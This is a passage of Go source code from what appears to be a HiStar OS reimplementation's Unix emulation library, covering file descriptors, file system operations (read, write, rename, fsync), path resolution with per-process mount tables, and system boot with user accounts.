		fd.Dir = entry.ID
	} else {
		fd.File = kernel.CEnt{Container: dir, Object: entry.ID}
	}
	return p.allocFD(fd), nil
}

// Close closes a descriptor.
func (p *Process) Close(num int) error {
	fd, err := p.getFD(num)
	if err != nil {
		return err
	}
	p.fdMu.Lock()
	delete(p.fds, num)
	p.fdMu.Unlock()
	if fd.Pipe != nil {
		return p.closePipeEnd(fd)
	}
	// Drop the descriptor segment; the object disappears when every process
	// holding it open has closed and unreferenced it.
	_ = p.TC.Unref(fd.Seg.Container, fd.Seg.Object)
	return nil
}

// Read reads from the descriptor at its current seek position.  The
// descriptor's shared seek lock makes the read-position update atomic even
// when related processes share the descriptor across fork.
func (p *Process) Read(num int, buf []byte) (int, error) {
	fd, err := p.getFD(num)
	if err != nil {
		return 0, err
	}
	if fd.Pipe != nil {
		return p.pipeRead(fd.Pipe, buf)
	}
	if fd.File.Object == kernel.NilID {
		return 0, ErrIsDir
	}
	fd.seekMu.Lock()
	defer fd.seekMu.Unlock()
	pos, err := p.fdSeek(fd)
	if err != nil {
		return 0, err
	}
	if err := p.sys.pageInFile(fd.File); err != nil {
		return 0, mapKernelErr(err)
	}
	data, err := p.TC.SegmentRead(fd.File, int(pos), len(buf))
	if err != nil {
		return 0, mapKernelErr(err)
	}
	copy(buf, data)
	if err := p.fdSetSeek(fd, pos+int64(len(data))); err != nil {
		return len(data), err
	}
	return len(data), nil
}

// Pread reads at an explicit offset without moving the seek position.
func (p *Process) Pread(num int, buf []byte, off int64) (int, error) {
	fd, err := p.getFD(num)
	if err != nil {
		return 0, err
	}
	if fd.File.Object == kernel.NilID {
		return 0, ErrIsDir
	}
	if err := p.sys.pageInFile(fd.File); err != nil {
		return 0, mapKernelErr(err)
	}
	data, err := p.TC.SegmentRead(fd.File, int(off), len(buf))
	if err != nil {
		return 0, mapKernelErr(err)
	}
	copy(buf, data)
	return len(data), nil
}

// Write writes at the descriptor's current seek position (or the end, with
// OAppend).
func (p *Process) Write(num int, data []byte) (int, error) {
	fd, err := p.getFD(num)
	if err != nil {
		return 0, err
	}
	if fd.Pipe != nil {
		return p.pipeWrite(fd.Pipe, data)
	}
	if fd.File.Object == kernel.NilID {
		return 0, ErrIsDir
	}
	fd.seekMu.Lock()
	defer fd.seekMu.Unlock()
	flags, err := p.fdFlags(fd)
	if err != nil {
		return 0, err
	}
	var pos int64
	if flags&OAppend != 0 {
		n, err := p.TC.SegmentLen(fd.File)
		if err != nil {
			return 0, mapKernelErr(err)
		}
		pos = int64(n)
	} else {
		pos, err = p.fdSeek(fd)
		if err != nil {
			return 0, err
		}
	}
	if err := p.sys.segWrite(p.TC, fd.File, int(pos), data); err != nil {
		return 0, err
	}
	p.touchMtime(fd.File)
	p.sys.persistFileAsync(p.TC, fd.File)
	if err := p.fdSetSeek(fd, pos+int64(len(data))); err != nil {
		return len(data), err
	}
	return len(data), nil
}

// Pwrite writes at an explicit offset without moving the seek position.
func (p *Process) Pwrite(num int, data []byte, off int64) (int, error) {
	fd, err := p.getFD(num)
	if err != nil {
		return 0, err
	}
	if fd.File.Object == kernel.NilID {
		return 0, ErrIsDir
	}
	if err := p.sys.segWrite(p.TC, fd.File, int(off), data); err != nil {
		return 0, err
	}
	p.touchMtime(fd.File)
	p.sys.persistFileAsync(p.TC, fd.File)
	return len(data), nil
}

// Whence values for Seek.
const (
	SeekSet = 0
	SeekCur = 1
	SeekEnd = 2
)

// Seek repositions the descriptor.
func (p *Process) Seek(num int, off int64, whence int) (int64, error) {
	fd, err := p.getFD(num)
	if err != nil {
		return 0, err
	}
	if fd.File.Object == kernel.NilID && fd.Pipe != nil {
		return 0, ErrInvalid
	}
	fd.seekMu.Lock()
	defer fd.seekMu.Unlock()
	var base int64
	switch whence {
	case SeekSet:
		base = 0
	case SeekCur:
		base, err = p.fdSeek(fd)
		if err != nil {
			return 0, err
		}
	case SeekEnd:
		n, lerr := p.TC.SegmentLen(fd.File)
		if lerr != nil {
			return 0, mapKernelErr(lerr)
		}
		base = int64(n)
	default:
		return 0, ErrInvalid
	}
	pos := base + off
	if pos < 0 {
		return 0, ErrInvalid
	}
	if err := p.fdSetSeek(fd, pos); err != nil {
		return 0, err
	}
	return pos, nil
}

// FileInfo is the result of Stat.
type FileInfo struct {
	Name  string
	Size  int64
	IsDir bool
	Label label.Label
	Mtime time.Duration
	ID    kernel.ID
}

// Stat returns metadata about a path.
func (p *Process) Stat(path string) (FileInfo, error) {
	abs := p.abs(path)
	dir, leaf, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return FileInfo{}, err
	}
	if entry == nil {
		return FileInfo{}, ErrNotExist
	}
	fi := FileInfo{Name: leaf, ID: entry.ID, IsDir: entry.Type == kernel.ObjContainer}
	var ce kernel.CEnt
	if fi.IsDir {
		ce = kernel.Self(entry.ID)
	} else {
		ce = kernel.CEnt{Container: dir, Object: entry.ID}
		n, err := p.TC.SegmentLen(ce)
		if err == nil {
			fi.Size = int64(n)
		}
	}
	st, err := p.TC.ObjectStat(ce)
	if err != nil {
		return fi, mapKernelErr(err)
	}
	fi.Label = st.Label
	fi.Mtime = time.Duration(binary.LittleEndian.Uint64(st.Metadata[8:16]))
	return fi, nil
}

// touchMtime stores a modification timestamp in the object metadata.
func (p *Process) touchMtime(ce kernel.CEnt) {
	st, err := p.TC.ObjectStat(ce)
	if err != nil {
		return
	}
	md := st.Metadata
	binary.LittleEndian.PutUint64(md[8:16], uint64(time.Now().UnixNano()))
	_ = p.TC.ObjectSetMetadata(ce, md)
}

// Mkdir creates a directory with the given label (zero label = process
// default).
func (p *Process) Mkdir(path string, lbl label.Label) error {
	if lbl.IsZero() {
		lbl = p.DefaultFileLabel()
	}
	abs := p.abs(path)
	dir, leaf, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return err
	}
	if entry != nil {
		return ErrExist
	}
	_, err = p.sys.mkdirIn(p.TC, dir, leaf, lbl)
	return err
}

// ReadDir lists a directory.
func (p *Process) ReadDir(path string) ([]DirEntry, error) {
	abs := p.abs(path)
	_, _, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return nil, err
	}
	if entry == nil {
		return nil, ErrNotExist
	}
	if entry.Type != kernel.ObjContainer {
		return nil, ErrNotDir
	}
	seg, err := p.sys.dirSegCE(p.TC, entry.ID)
	if err != nil {
		return nil, err
	}
	return p.sys.readDirEntries(p.TC, seg)
}

// Unlink removes a file or (empty) directory.
func (p *Process) Unlink(path string) error {
	abs := p.abs(path)
	dir, leaf, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return err
	}
	if entry == nil {
		return ErrNotExist
	}
	if entry.Type == kernel.ObjContainer {
		children, err := p.ReadDir(abs)
		if err == nil && len(children) > 0 {
			return ErrNotEmpty
		}
	}
	if _, err := p.sys.removeEntry(p.TC, dir, leaf); err != nil {
		return err
	}
	if err := p.TC.Unref(dir, entry.ID); err != nil {
		return mapKernelErr(err)
	}
	p.sys.persistDelete(entry.ID)
	return nil
}

// Rename renames a file within a directory, or moves it between directories.
// The within-directory case is atomic under the directory mutex.
func (p *Process) Rename(oldPath, newPath string) error {
	oldAbs, newAbs := p.abs(oldPath), p.abs(newPath)
	oldDir, oldLeaf, oldEntry, err := p.sys.resolve(p.TC, p.sys.RootDir, oldAbs, p.mounts)
	if err != nil {
		return err
	}
	if oldEntry == nil {
		return ErrNotExist
	}
	newDir, newLeaf, _, err := p.sys.resolve(p.TC, p.sys.RootDir, newAbs, p.mounts)
	if err != nil {
		return err
	}
	if oldDir == newDir {
		return p.sys.renameEntry(p.TC, oldDir, oldLeaf, newLeaf)
	}
	// Cross-directory: link into the new directory, then remove the old
	// name.  The object must have a fixed quota to be multiply linked.
	ce := kernel.CEnt{Container: oldDir, Object: oldEntry.ID}
	_ = p.TC.ObjectSetFixedQuota(ce)
	if err := p.TC.Link(newDir, ce); err != nil && err != kernel.ErrExists {
		return mapKernelErr(err)
	}
	seg, err := p.sys.dirSegCE(p.TC, newDir)
	if err != nil {
		return err
	}
	if err := p.sys.lockDir(p.TC, seg); err != nil {
		return err
	}
	entries, err := p.sys.readDirEntriesLocked(p.TC, seg)
	if err != nil {
		p.sys.unlockDir(p.TC, seg)
		return err
	}
	entries = append(entries, DirEntry{Name: newLeaf, ID: oldEntry.ID, Type: oldEntry.Type})
	if err := p.sys.writeDirEntries(p.TC, seg, entries); err != nil {
		p.sys.unlockDir(p.TC, seg)
		return err
	}
	p.sys.unlockDir(p.TC, seg)
	if _, err := p.sys.removeEntry(p.TC, oldDir, oldLeaf); err != nil {
		return err
	}
	_ = p.TC.Unref(oldDir, oldEntry.ID)
	p.sys.persistDirectory(p.TC, oldDir)
	p.sys.persistDirectory(p.TC, newDir)
	return nil
}

// ReadFile is a convenience that opens, reads fully, and closes a file.
func (p *Process) ReadFile(path string) ([]byte, error) {
	fd, err := p.Open(path, ORead)
	if err != nil {
		return nil, err
	}
	defer p.Close(fd)
	f, err := p.getFD(fd)
	if err != nil {
		return nil, err
	}
	if err := p.sys.pageInFile(f.File); err != nil {
		return nil, mapKernelErr(err)
	}
	n, err := p.TC.SegmentLen(f.File)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	data, err := p.TC.SegmentRead(f.File, 0, n)
	if err != nil {
		return nil, mapKernelErr(err)
	}
	return data, nil
}

// WriteFile is a convenience that creates (or truncates) a file and writes
// data to it.
func (p *Process) WriteFile(path string, data []byte, lbl label.Label) error {
	fd, err := p.Create(path, lbl)
	if err == ErrExist {
		fd, err = p.Open(path, OWrite)
		if err != nil {
			return err
		}
		f, _ := p.getFD(fd)
		if err := p.sys.segResize(p.TC, f.File, 0); err != nil {
			p.Close(fd)
			return err
		}
	} else if err != nil {
		return err
	}
	defer p.Close(fd)
	_, err = p.Write(fd, data)
	return err
}

// Fsync makes a file durable: the file's segment is synchronously appended
// to the single-level store's write-ahead log.
func (p *Process) Fsync(num int) error {
	fd, err := p.getFD(num)
	if err != nil {
		return err
	}
	if fd.File.Object == kernel.NilID {
		// fsync of a directory checkpoints the entire system state
		// (Section 7.1's explanation for the synchronous unlink numbers).
		return p.sys.SyncWholeSystem()
	}
	return p.sys.persistFileSync(p.TC, fd.File)
}

// FsyncPath is Fsync by path: files sync their own segment, directories
// checkpoint the whole system.
func (p *Process) FsyncPath(path string) error {
	abs := p.abs(path)
	dir, _, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return err
	}
	if entry == nil {
		return ErrNotExist
	}
	if entry.Type == kernel.ObjContainer {
		return p.sys.SyncWholeSystem()
	}
	return p.sys.persistFileSync(p.TC, kernel.CEnt{Container: dir, Object: entry.ID})
}

// GroupSync checkpoints the entire system state once — the new consistency
// choice the single-level store makes possible (Section 7.1): the
// application either runs to completion or appears never to have started.
func (p *Process) GroupSync() error {
	return p.sys.SyncWholeSystem()
}
