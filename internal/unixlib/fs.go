package unixlib

import (
	"encoding/binary"
	"errors"
	"strings"
	"sync"

	"histar/internal/kernel"
	"histar/internal/label"
)

// The HiStar file system (Section 5.1): files are segments, directories are
// containers with a directory segment, and permissions are plain kernel
// labels enforced by the kernel rather than by this (untrusted) library.
// Directories are given an unlimited quota and the library manages file
// segment quotas automatically via quota_move, matching the paper's "we do
// not expect users to manage quotas manually" stance.

// dirQuota is the quota assigned to directory containers.
const dirQuota = kernel.QuotaInfinite

// mkDirContainer creates a directory: a container plus its directory
// segment, with the segment's ID recorded in the container metadata.
func (sys *System) mkDirContainer(tc *kernel.ThreadCall, parent kernel.ID, name string, lbl label.Label) (kernel.ID, error) {
	dir, err := tc.ContainerCreate(parent, lbl, "dir:"+name, 0, dirQuota)
	if err != nil {
		return kernel.NilID, mapKernelErr(err)
	}
	seg, err := tc.SegmentCreate(dir, lbl, "dirseg:"+name, dsDataOff)
	if err != nil {
		return kernel.NilID, mapKernelErr(err)
	}
	sys.persistLabel(seg, lbl)
	var md [kernel.MetadataSize]byte
	binary.LittleEndian.PutUint64(md[:8], uint64(seg))
	if err := tc.ObjectSetMetadata(kernel.Self(dir), md); err != nil {
		return kernel.NilID, mapKernelErr(err)
	}
	return dir, nil
}

// mkdirIn creates a named subdirectory inside dir and records it in dir's
// directory segment.
func (sys *System) mkdirIn(tc *kernel.ThreadCall, dir kernel.ID, name string, lbl label.Label) (kernel.ID, error) {
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return kernel.NilID, err
	}
	if err := sys.lockDir(tc, seg); err != nil {
		return kernel.NilID, err
	}
	defer sys.unlockDir(tc, seg)
	entries, err := sys.readDirEntriesLocked(tc, seg)
	if err != nil {
		return kernel.NilID, err
	}
	for _, e := range entries {
		if e.Name == name {
			return kernel.NilID, ErrExist
		}
	}
	child, err := sys.mkDirContainer(tc, dir, name, lbl)
	if err != nil {
		return kernel.NilID, err
	}
	entries = append(entries, DirEntry{Name: name, ID: child, Type: kernel.ObjContainer})
	if err := sys.writeDirEntries(tc, seg, entries); err != nil {
		return kernel.NilID, err
	}
	sys.persistDirectory(tc, dir)
	return child, nil
}

// createFileIn creates a file segment named name inside dir with the given
// label.
func (sys *System) createFileIn(tc *kernel.ThreadCall, dir kernel.ID, name string, lbl label.Label) (kernel.ID, error) {
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return kernel.NilID, err
	}
	if err := sys.lockDir(tc, seg); err != nil {
		return kernel.NilID, err
	}
	defer sys.unlockDir(tc, seg)
	entries, err := sys.readDirEntriesLocked(tc, seg)
	if err != nil {
		return kernel.NilID, err
	}
	for _, e := range entries {
		if e.Name == name {
			return kernel.NilID, ErrExist
		}
	}
	file, err := tc.SegmentCreate(dir, lbl, "file:"+truncName(name), 0)
	if err != nil {
		return kernel.NilID, mapKernelErr(err)
	}
	sys.persistLabel(file, lbl)
	entries = append(entries, DirEntry{Name: name, ID: file, Type: kernel.ObjSegment})
	if err := sys.writeDirEntries(tc, seg, entries); err != nil {
		return kernel.NilID, err
	}
	sys.persistDirectory(tc, dir)
	return file, nil
}

func truncName(s string) string {
	if len(s) > 20 {
		return s[:20]
	}
	return s
}

// lookupEntry finds a name in a directory.
func (sys *System) lookupEntry(tc *kernel.ThreadCall, dir kernel.ID, name string) (DirEntry, error) {
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return DirEntry{}, err
	}
	entries, err := sys.readDirEntries(tc, seg)
	if err != nil {
		return DirEntry{}, err
	}
	for _, e := range entries {
		if e.Name == name {
			return e, nil
		}
	}
	return DirEntry{}, ErrNotExist
}

// removeEntry removes a name binding from a directory (the object itself is
// unreferenced by the caller).
func (sys *System) removeEntry(tc *kernel.ThreadCall, dir kernel.ID, name string) (DirEntry, error) {
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return DirEntry{}, err
	}
	if err := sys.lockDir(tc, seg); err != nil {
		return DirEntry{}, err
	}
	defer sys.unlockDir(tc, seg)
	entries, err := sys.readDirEntriesLocked(tc, seg)
	if err != nil {
		return DirEntry{}, err
	}
	for i, e := range entries {
		if e.Name == name {
			entries = append(entries[:i], entries[i+1:]...)
			if err := sys.writeDirEntries(tc, seg, entries); err != nil {
				return DirEntry{}, err
			}
			sys.persistDirectory(tc, dir)
			return e, nil
		}
	}
	return DirEntry{}, ErrNotExist
}

// renameEntry atomically renames oldName to newName within a single
// directory by holding the directory mutex across the update (Section 5.1's
// atomic rename example).
func (sys *System) renameEntry(tc *kernel.ThreadCall, dir kernel.ID, oldName, newName string) error {
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return err
	}
	if err := sys.lockDir(tc, seg); err != nil {
		return err
	}
	defer sys.unlockDir(tc, seg)
	entries, err := sys.readDirEntriesLocked(tc, seg)
	if err != nil {
		return err
	}
	var src *DirEntry
	dstIdx := -1
	for i := range entries {
		if entries[i].Name == oldName {
			src = &entries[i]
		}
		if entries[i].Name == newName {
			dstIdx = i
		}
	}
	if src == nil {
		return ErrNotExist
	}
	src.Name = newName
	if dstIdx >= 0 {
		// Replace the existing target (Unix rename semantics).
		victim := entries[dstIdx]
		entries = append(entries[:dstIdx], entries[dstIdx+1:]...)
		_ = tc.Unref(dir, victim.ID)
		sys.persistDelete(victim.ID)
	}
	if err := sys.writeDirEntries(tc, seg, entries); err != nil {
		return err
	}
	sys.persistDirectory(tc, dir)
	return nil
}

// resolve walks an absolute or cwd-relative path to its final component.  It
// returns the containing directory, the final component's name, and — if the
// path names an existing entry — that entry.  The mounts table, when
// non-nil, overlays mounted containers on path prefixes (Section 5.1's
// per-process mount table, in the style of Plan 9).
func (sys *System) resolve(tc *kernel.ThreadCall, rootDir kernel.ID, path string, mounts *MountTable) (dir kernel.ID, leaf string, entry *DirEntry, err error) {
	clean := cleanPath(path)
	if clean == "/" {
		return rootDir, ".", &DirEntry{Name: ".", ID: rootDir, Type: kernel.ObjContainer}, nil
	}
	// Longest-prefix mount match.
	cur := rootDir
	rest := clean
	if mounts != nil {
		if target, remainder, ok := mounts.match(clean); ok {
			cur = target
			rest = remainder
			if rest == "" || rest == "/" {
				return cur, ".", &DirEntry{Name: ".", ID: cur, Type: kernel.ObjContainer}, nil
			}
		}
	}
	parts := strings.Split(strings.Trim(rest, "/"), "/")
	for i, part := range parts {
		if part == "" || part == "." {
			continue
		}
		last := i == len(parts)-1
		e, lerr := sys.lookupEntry(tc, cur, part)
		if last {
			if lerr != nil {
				if errors.Is(lerr, ErrNotExist) {
					return cur, part, nil, nil
				}
				return kernel.NilID, "", nil, lerr
			}
			ecopy := e
			return cur, part, &ecopy, nil
		}
		if lerr != nil {
			return kernel.NilID, "", nil, lerr
		}
		if e.Type != kernel.ObjContainer {
			return kernel.NilID, "", nil, ErrNotDir
		}
		cur = e.ID
	}
	return cur, ".", &DirEntry{Name: ".", ID: cur, Type: kernel.ObjContainer}, nil
}

func cleanPath(p string) string {
	if p == "" {
		return "/"
	}
	if !strings.HasPrefix(p, "/") {
		p = "/" + p
	}
	// Collapse duplicate slashes; no ".." support (the library resolves
	// parents through container_get_parent where needed).
	var parts []string
	for _, part := range strings.Split(p, "/") {
		if part == "" || part == "." {
			continue
		}
		if part == ".." {
			if len(parts) > 0 {
				parts = parts[:len(parts)-1]
			}
			continue
		}
		parts = append(parts, part)
	}
	return "/" + strings.Join(parts, "/")
}

// MountTable maps path prefixes onto containers, like Plan 9 namespaces: a
// process may copy and modify its table, for example at user login or to
// select which network stack /netd refers to (Section 6.3).  Tables are safe
// for concurrent use: path resolution takes the read lock, so concurrent
// lookups through a shared table never serialize on each other.
type MountTable struct {
	mu      sync.RWMutex
	entries map[string]kernel.ID
}

// NewMountTable returns an empty mount table.
func NewMountTable() *MountTable {
	return &MountTable{entries: make(map[string]kernel.ID)}
}

// Clone returns a copy of the table (used across fork).
func (m *MountTable) Clone() *MountTable {
	n := NewMountTable()
	m.mu.RLock()
	defer m.mu.RUnlock()
	for k, v := range m.entries {
		n.entries[k] = v
	}
	return n
}

// Mount overlays container id on path prefix.
func (m *MountTable) Mount(prefix string, id kernel.ID) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.entries[cleanPath(prefix)] = id
}

// Unmount removes an overlay.
func (m *MountTable) Unmount(prefix string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	delete(m.entries, cleanPath(prefix))
}

// Lookup returns the container mounted exactly at prefix.
func (m *MountTable) Lookup(prefix string) (kernel.ID, bool) {
	m.mu.RLock()
	defer m.mu.RUnlock()
	id, ok := m.entries[cleanPath(prefix)]
	return id, ok
}

// match finds the longest mount prefix of path and returns the mounted
// container and the remaining path.
func (m *MountTable) match(path string) (kernel.ID, string, bool) {
	m.mu.RLock()
	defer m.mu.RUnlock()
	best := ""
	var bestID kernel.ID
	for prefix, id := range m.entries {
		if path == prefix || strings.HasPrefix(path, prefix+"/") {
			if len(prefix) > len(best) {
				best = prefix
				bestID = id
			}
		}
	}
	if best == "" {
		return kernel.NilID, "", false
	}
	return bestID, strings.TrimPrefix(path, best), true
}

// segWrite writes data to a segment, growing its quota through quota_move
// when necessary (the library's automatic quota management).
func (sys *System) segWrite(tc *kernel.ThreadCall, seg kernel.CEnt, off int, data []byte) error {
	err := tc.SegmentWrite(seg, off, data)
	if errors.Is(err, kernel.ErrQuota) {
		need := int64(off+len(data))*2 + 64*1024
		if qerr := tc.QuotaMove(seg.Container, seg.Object, need); qerr != nil {
			return mapKernelErr(qerr)
		}
		err = tc.SegmentWrite(seg, off, data)
	}
	return mapKernelErr(err)
}

// segResize resizes a segment, growing its quota when necessary.
func (sys *System) segResize(tc *kernel.ThreadCall, seg kernel.CEnt, n int) error {
	err := tc.SegmentResize(seg, n)
	if errors.Is(err, kernel.ErrQuota) {
		need := int64(n)*2 + 64*1024
		if qerr := tc.QuotaMove(seg.Container, seg.Object, need); qerr != nil {
			return mapKernelErr(qerr)
		}
		err = tc.SegmentResize(seg, n)
	}
	return mapKernelErr(err)
}
