// Package unixlib is the HiStar user-level Unix emulation library
// (Section 5).  Everything here — the file system, processes, file
// descriptors, fork/exec/spawn, signals, pipes, users, and mount tables — is
// built purely on the kernel interface of package kernel, with no special
// privilege: it corresponds to the ~10,000-line library the paper layers
// under uClibc.  A vulnerability in this code compromises only the threads
// that trigger it, never the kernel's information-flow guarantees.
package unixlib

import (
	"fmt"
	"sync"
	"sync/atomic"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/store"
)

// Program is a registered "executable": the Go function run when a process
// execs the corresponding file.  It returns the process's exit status.
type Program func(p *Process, args []string) int

// User is a Unix user account: a pair of unique categories defining the
// user's read and write privileges (Section 5.4).  Root is just another
// user.
type User struct {
	Name string
	Ur   label.Category // read privilege
	Uw   label.Category // write privilege
}

// System is one booted HiStar machine with its Unix environment: the kernel,
// the optional single-level-store persistence bridge, the root directory,
// registered programs, and user accounts.  There is no system-wide lock:
// the program and user tables are read-mostly behind their own RWMutexes,
// PIDs come from an atomic counter, and directory-segment lookups hit a
// sharded cache, so concurrent processes contend only on the kernel objects
// they actually share.
type System struct {
	Kern    *kernel.Kernel
	Persist *store.Store

	// RootDir is the container serving as the file system root "/".
	RootDir kernel.ID

	progMu   sync.RWMutex
	programs map[string]Program

	userMu sync.RWMutex
	users  map[string]*User
	// addUserMu serializes whole AddUser calls: account creation mints
	// categories and a labeled home directory before the name is registered,
	// and two racing creators must not each mint their own — the loser's
	// home-directory label would not match the winner's registered
	// categories.  userMu alone only protects the map.
	addUserMu sync.Mutex

	nextPID atomic.Int64

	// dirSegs caches directory container → directory segment bindings,
	// sharded by container-ID bits.  A binding is written once when the
	// directory is created and never changes (kernel IDs are never reused),
	// so cached entries need no invalidation: a deleted directory's entry
	// just resolves to a kernel lookup failure, as the uncached path would.
	dirSegs [dirSegShards]dirSegShard

	// initTC is the bootstrap thread that owns all users' categories; the
	// authentication service (package auth) takes over this role in the full
	// login flow.
	initTC *kernel.ThreadCall
}

// dirSegShards is the size of the directory-segment cache's shard array.
const dirSegShards = 16

type dirSegShard struct {
	mu sync.RWMutex
	m  map[kernel.ID]kernel.ID
}

// BootOptions configure Boot.
type BootOptions struct {
	// Persist attaches a single-level store; file and directory segments are
	// mirrored into it so fsync and checkpoint have their paper semantics.
	Persist *store.Store
	// KernelConfig is passed through to kernel.New.
	KernelConfig kernel.Config
}

// Boot creates a kernel, the root directory hierarchy (/, /tmp, /bin, /etc,
// /home), and the init process, and returns the running system.
func Boot(opts BootOptions) (*System, error) {
	k := kernel.New(opts.KernelConfig)
	sys := &System{
		Kern:     k,
		Persist:  opts.Persist,
		programs: make(map[string]Program),
		users:    make(map[string]*User),
	}
	for i := range sys.dirSegs {
		sys.dirSegs[i].m = make(map[kernel.ID]kernel.ID)
	}
	if st := opts.Persist; st != nil {
		// Surface the store's corruption accounting through kernel stats,
		// keeping the kernel itself storage-agnostic.
		k.SetIntegritySource(func() kernel.StorageIntegrity {
			is := st.IntegrityStats()
			ss := st.Stats()
			return kernel.StorageIntegrity{
				CorruptionsDetected: is.CorruptionsDetected,
				QuarantineEvents:    is.QuarantineEvents,
				QuarantinedNow:      is.QuarantinedNow,
				ScrubPasses:         is.ScrubPasses,
				ScrubBytesVerified:  is.ScrubBytesVerified,
				DegradedMount:       is.Recovery.Degraded(),
				Checkpoints:         ss.Checkpoints,
				SealStallTotalNs:    ss.SealStallTotalNs,
				SealStallMaxNs:      ss.SealStallMaxNs,
				BytesHome:           ss.BytesHome,
				BytesCleaned:        ss.BytesCleaned,
				MetaBytesWritten:    ss.MetaBytesWritten,
				SegsAllocated:       ss.SegsAllocated,
				SegsCleaned:         ss.SegsCleaned,
				SegsFreed:           ss.SegsFreed,
			}
		})
		// Container snapshots persist as refcounted store bundles; clones
		// validate the bundle and record extent-sharing aliases.  The kernel
		// stays storage-agnostic behind the sink interface.
		k.SetSnapshotSink(snapshotSink{st})
	}
	tc, err := k.BootThread(label.New(label.L1), label.New(label.L2), "unixlib init")
	if err != nil {
		return nil, err
	}
	sys.initTC = tc

	// "/" is a container directly under the kernel root container.
	rootDir, err := sys.mkDirContainer(tc, k.RootContainer(), "/", label.New(label.L1))
	if err != nil {
		return nil, fmt.Errorf("creating /: %w", err)
	}
	sys.RootDir = rootDir
	for _, d := range []string{"tmp", "bin", "etc", "home", "dev"} {
		if _, err := sys.mkdirIn(tc, rootDir, d, label.New(label.L1)); err != nil {
			return nil, fmt.Errorf("creating /%s: %w", d, err)
		}
	}
	return sys, nil
}

// InitThread returns the bootstrap thread's syscall context.  It is used by
// the trusted setup code in examples and tests (the role the machine
// administrator's console plays on a real system).
func (sys *System) InitThread() *kernel.ThreadCall { return sys.initTC }

// RegisterProgram makes a program available under the given path, creating
// the corresponding file in the file system (its contents are the program
// name, standing in for the executable's bytes).
func (sys *System) RegisterProgram(path string, prog Program) error {
	sys.progMu.Lock()
	sys.programs[path] = prog
	sys.progMu.Unlock()
	// Materialize the "binary" so exec can stat it and so the file system
	// behaves like a real /bin.
	p, err := sys.NewInitProcess("root")
	if err != nil {
		return err
	}
	defer p.ExitQuietly()
	fd, err := p.Create(path, label.New(label.L1))
	if err != nil {
		if err == ErrExist {
			return nil
		}
		return err
	}
	if _, err := p.Write(fd, []byte(path)); err != nil {
		return err
	}
	return p.Close(fd)
}

// LookupProgram resolves a registered program by path.
func (sys *System) LookupProgram(path string) (Program, bool) {
	sys.progMu.RLock()
	defer sys.progMu.RUnlock()
	prog, ok := sys.programs[path]
	return prog, ok
}

// AddUser creates a user account: a fresh ur/uw category pair and a home
// directory /home/<name> labeled {ur3, uw0, 1}.
func (sys *System) AddUser(name string) (*User, error) {
	sys.addUserMu.Lock()
	defer sys.addUserMu.Unlock()
	sys.userMu.RLock()
	_, exists := sys.users[name]
	sys.userMu.RUnlock()
	if exists {
		return nil, ErrExist
	}

	ur, err := sys.initTC.CategoryCreateNamed(name + "r")
	if err != nil {
		return nil, err
	}
	uw, err := sys.initTC.CategoryCreateNamed(name + "w")
	if err != nil {
		return nil, err
	}
	u := &User{Name: name, Ur: ur, Uw: uw}

	// Home directory readable/writable only by the user.
	homeLabel := label.New(label.L1, label.P(ur, label.L3), label.P(uw, label.L0))
	home, err := sys.lookupDir(sys.initTC, "/home")
	if err != nil {
		return nil, err
	}
	if _, err := sys.mkdirIn(sys.initTC, home, name, homeLabel); err != nil && err != ErrExist {
		return nil, err
	}

	sys.userMu.Lock()
	sys.users[name] = u
	sys.userMu.Unlock()
	return u, nil
}

// LookupUser returns the account record for name.
func (sys *System) LookupUser(name string) (*User, bool) {
	sys.userMu.RLock()
	defer sys.userMu.RUnlock()
	u, ok := sys.users[name]
	return u, ok
}

// Users returns the registered user names.
func (sys *System) Users() []string {
	sys.userMu.RLock()
	defer sys.userMu.RUnlock()
	out := make([]string, 0, len(sys.users))
	for n := range sys.users {
		out = append(out, n)
	}
	return out
}

func (sys *System) allocPID() int {
	return int(sys.nextPID.Add(1))
}

// lookupDir resolves an absolute path to a directory container using the
// init thread (bootstrap-only plumbing; processes use their own resolution).
func (sys *System) lookupDir(tc *kernel.ThreadCall, path string) (kernel.ID, error) {
	_, _, entry, err := sys.resolve(tc, sys.RootDir, path, nil)
	if err != nil {
		return kernel.NilID, err
	}
	if entry == nil {
		return kernel.NilID, ErrNotExist
	}
	if entry.Type != kernel.ObjContainer {
		return kernel.NilID, ErrNotDir
	}
	return entry.ID, nil
}
