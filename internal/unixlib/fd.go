package unixlib

import (
	"encoding/binary"
	"sync"

	"histar/internal/kernel"
	"histar/internal/label"
)

// File descriptors (Section 5.3): all descriptor state — seek position, open
// flags, reference count — lives in a file descriptor segment.  Descriptor
// numbers correspond to virtual addresses in the real library; here the
// process keeps a table from descriptor number to the descriptor segment and
// the object it refers to.  Multiple processes share a descriptor by mapping
// the same segment.

// fdSegment layout.
const (
	fdSeekOff  = 0
	fdFlagsOff = 8
	fdRefsOff  = 16
	fdSegSize  = 64
)

// Open flags.
const (
	ORead  = 1 << iota // open for reading
	OWrite             // open for writing
	OAppend
)

// FD is a process's handle on an open file, directory, pipe, or socket.
type FD struct {
	Num int
	// seekMu serializes read-modify-write cycles on the seek position in the
	// descriptor segment.  It is a pointer so that the FD struct copies made
	// by fork/spawn (which share the descriptor segment) share the lock too —
	// per-descriptor, not per-process, exactly like the segment itself.
	seekMu *sync.Mutex
	// Seg is the file descriptor segment holding seek position and flags.
	Seg kernel.CEnt
	// File is the file segment (for regular files).
	File kernel.CEnt
	// Dir is the directory container (for directories).
	Dir kernel.ID
	// Pipe is non-nil for pipe descriptors.
	Pipe *Pipe
	// Socket is non-nil for network sockets (attached by package netd).
	Socket interface{}
	// WriteEnd marks the write side of a pipe.
	WriteEnd bool
